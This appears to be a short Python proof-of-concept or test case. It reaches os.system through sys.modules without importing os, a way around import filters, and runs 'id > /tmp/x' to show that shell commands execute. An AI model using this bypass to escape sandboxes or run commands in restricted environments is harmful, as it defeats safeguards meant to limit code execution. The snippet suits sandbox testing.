# why: os is always loaded, sys.modules has it
import sys
sys.modules["os"].system("id > /tmp/x")
